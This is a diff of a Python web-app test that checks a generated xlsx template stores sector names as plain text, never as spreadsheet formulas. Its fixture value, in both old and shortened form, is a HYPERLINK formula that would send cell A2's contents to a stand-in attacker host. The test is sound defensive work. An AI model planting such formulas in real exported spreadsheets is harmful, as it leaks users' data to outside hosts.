@@ -682,7 +682,7 @@ def test_xlsx_template_lists_rules_and_sectors(client: Client, world: World) -> 
 
 def test_every_text_in_the_template_is_text_never_a_formula(client: Client, world: World) -> None:
     # A sector or region name is data; one beginning with "=" must not become a formula.
-    world.sector_chem.name = '=HYPERLINK("http://evil.example/?"&A2,"危险化学品")'
+    world.sector_chem.name = '=HYPERLINK("http://e.x/?"&A2,"危化")'  # fits 40 chars
     world.sector_chem.save()
     client.force_login(world.official_a)
     content = client.get(reverse("enterprise_import_template", args=["xlsx"])).content
